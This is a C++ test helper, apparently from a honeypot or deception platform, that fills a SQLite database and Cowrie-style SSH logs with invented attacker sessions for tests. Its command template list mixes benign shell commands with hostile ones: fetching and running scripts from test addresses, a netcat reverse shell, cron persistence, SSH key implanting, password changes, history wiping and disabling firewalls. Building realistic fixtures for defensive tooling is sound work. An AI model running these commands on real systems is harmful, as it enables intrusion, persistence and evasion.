#include "tests/invented_history.h"

#include <fmt/chrono.h>
#include <fmt/format.h>

#include <array>
#include <ctime>
#include <string_view>

#include "decnet/base/json.h"

namespace decnet::test {
namespace {

std::size_t below(Random& random, std::size_t bound) { return random() % bound; }

// Own, because the distributions of <random> differ between standard libraries.
std::string word(Random& random) {
  static constexpr std::string_view kLetters = "abcdefghijklmnopqrstuvwxyz0123456789";
  std::string out;
  for (std::size_t i = 3 + below(random, 8); i > 0; --i) out += kLetters[below(random, 36)];
  return out;
}

std::string address(Random& random) {
  static constexpr std::array<std::string_view, 3> kNets = {"192.0.2", "198.51.100", "203.0.113"};
  return fmt::format("{}.{}", kNets[below(random, kNets.size())], 1 + below(random, 254));
}

// {w}: a word, {a}: an address.
constexpr std::array<std::string_view, 40> kTemplates = {
    "ls -la /home/{w}",
    "cd /tmp",
    "pwd",
    "echo {w}",
    "exit",
    "cd /var/run || cd /mnt || cd /root",
    "mkdir -p /tmp/{w}",
    "vi {w}.txt",
    "date",
    "top",
    "help",
    "export {w}={w}",
    "enable",
    "shell",
    "sleep 3; echo {w}",
    "printf '{w}\\n'",
    "tar xf {w}.tar -C /opt",
    "mv {w} {w}.old",
    "apt-get install {w}",
    "cat {w}.log | head",
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "whoami",
    "id",
    "cat /etc/passwd",
    "find / -perm -4000 -type f 2>/dev/null",
    "wget http://{a}/{w}.sh -O /tmp/{w}; chmod 777 /tmp/{w}; sh /tmp/{w}",
    "curl -s http://{a}/{w} | bash",
    "cd /tmp; tftp -g -r {w} {a}; ./{w}",
    "echo 'root:{w}' | chpasswd",
    "(crontab -l; echo '*/5 * * * * /tmp/{w}') | crontab -",
    "history -c; rm -f ~/.bash_history",
    "echo 'ssh-rsa AAAAB3Nza{w} {w}@{w}' >> ~/.ssh/authorized_keys",
    "nc -e /bin/sh {a} 4444",
    "ps aux | grep {w}",
    "netstat -tulpn",
    "iptables -F",
    "useradd -m -s /bin/bash {w}",
    "base64 -d /tmp/{w} > /tmp/{w}.bin",
    "systemctl stop firewalld",
};

std::string time_text(std::time_t seconds, std::string_view format) {
  return fmt::format(fmt::runtime(format), fmt::gmtime(seconds));
}

std::string uuid(std::string_view kind, std::uint64_t seed, std::size_t number) {
  return fmt::format("{}-0000-4000-8000-{:04x}{:08x}", kind, seed & 0xffff, number);
}

// Times lie within the last day, so that any `--since-days` reaches them.
std::time_t a_day_ago() { return std::time(nullptr) - 86'400; }

std::string json_string(std::string_view text) {
  std::string out;
  append_json_string(out, text);
  return out;
}

std::string entry(Random& random, std::uint64_t seed, std::size_t number, std::time_t when) {
  const auto text = json_string(invented_command(random));
  const auto ts = time_text(when, "{:%Y-%m-%dT%H:%M:%S}+00:00");
  switch (below(random, 10)) {
    case 0:
      return fmt::format(R"({{"id": "none-{}", "ts": "{}"}})", number, ts);
    case 1:
      return number % 2 == 0 ? text : "null";
    case 2:
    case 3:
      return fmt::format(R"({{"command_id": {}, "text": {}, "decky": "decky-01", "ts": "{}"}})",
                         (seed & 0xffff) * 100'000'000 + number + 1, text, ts);
    case 4:
    case 5:
    case 6:
      return fmt::format(
          R"({{"id": "c-{}-{}", "session_id": "s-{}", "decky_id": "decky-02", "command_text": {}, "ts": "{}"}})",
          seed, number, number / 7, text, ts);
    default:
      return fmt::format(
          R"({{"service": "ssh", "decky": "decky-03", "command": {}, "timestamp": "{}"}})", text,
          ts);
  }
}

}  // namespace

std::string invented_command(Random& random) {
  const auto shape = kTemplates[below(random, kTemplates.size())];
  std::string out;
  for (std::size_t i = 0; i < shape.size(); ++i) {
    if (shape.substr(i, 3) == "{w}") {
      out += word(random);
      i += 2;
    } else if (shape.substr(i, 3) == "{a}") {
      out += address(random);
      i += 2;
    } else {
      out += shape[i];
    }
  }
  return out;
}

void invent_history(SqliteFile& database, std::uint64_t seed, const InventedSize& size) {
  Random random(seed);
  const auto start = a_day_ago();
  std::size_t number = 0;
  database.run("BEGIN");
  for (std::size_t i = 0; i < size.attackers; ++i) {
    std::string commands = "[";
    for (std::size_t k = 0; k < size.commands; ++k, ++number) {
      if (k > 0) commands += ", ";
      commands += entry(random, seed, number, start + static_cast<std::time_t>(k));
    }
    commands += "]";
    const auto seen =
        time_text(start + static_cast<std::time_t>(i % 80'000), "{:%Y-%m-%d %H:%M:%S}.000000");
    database.insert("attackers", {{"uuid", uuid("a77ac000", seed, i)},
                                  {"ip", fmt::format("2001:db8::{:x}:{:x}", seed & 0xffff, i)},
                                  {"first_seen", seen},
                                  {"last_seen", seen},
                                  {"event_count", "0"},
                                  {"service_count", "1"},
                                  {"decky_count", "1"},
                                  {"services", R"(["ssh"])"},
                                  {"deckies", R"(["decky-01"])"},
                                  {"is_traversal", "0"},
                                  {"bounty_count", "0"},
                                  {"credential_count", "0"},
                                  {"fingerprints", "[]"},
                                  {"commands", commands},
                                  {"rotation_count", "0"},
                                  {"ipv6_leak_count", "0"},
                                  {"updated_at", seen}});
  }
  for (std::size_t i = 0; i < size.triggers; ++i) {
    database.insert(
        "canary_triggers",
        {{"uuid", uuid("7e570000", seed, i)},
         {"token_uuid", uuid("70ce0000", seed, 0)},
         {"occurred_at", time_text(start, "{:%Y-%m-%d %H:%M:%S}.000000")},
         {"src_ip", address(random)},
         {"user_agent", "curl/8.5.0"},
         {"request_path", "/c/slug"},
         {"raw_headers", i % 2 == 0 ? R"({"_fp": {"nav": {"wd": true}}})" : "{}"},
         {"attacker_id", i % 3 == 0 ? "NULL" : uuid("a77ac000", seed, i % size.attackers)}});
  }
  database.run("COMMIT");
}

std::string invented_cowrie_log(std::uint64_t seed, std::size_t sessions, std::size_t commands) {
  Random random(seed);
  auto when = a_day_ago();
  std::string log;
  for (std::size_t i = 0; i < sessions; ++i) {
    const auto session = fmt::format("{:012x}", random() & 0xffff'ffff'ffffULL);
    const auto ip = address(random);
    const auto line = [&](std::string_view event, const std::string& more) {
      log += fmt::format(
          R"({{"eventid":"{}",{}"sensor":"sensor-{:02}","timestamp":"{}.{:06}Z","src_ip":"{}","session":"{}"}})"
          "\n",
          event, more, i % 4, time_text(when, "{:%Y-%m-%dT%H:%M:%S}"), random() % 1'000'000, ip,
          session);
      when += static_cast<std::time_t>(random() % 2);
    };
    line("cowrie.session.connect", R"("src_port":40000,"dst_port":22,"protocol":"ssh",)");
    line("cowrie.login.success",
         fmt::format(R"("username":"root","password":"{}",)", word(random)));
    for (std::size_t k = 0; k < commands; ++k) {
      line("cowrie.command.input",
           fmt::format(R"("input":{},)", json_string(invented_command(random))));
    }
    line("cowrie.session.closed", R"("duration":1.5,)");
  }
  return log;
}

}  // namespace decnet::test
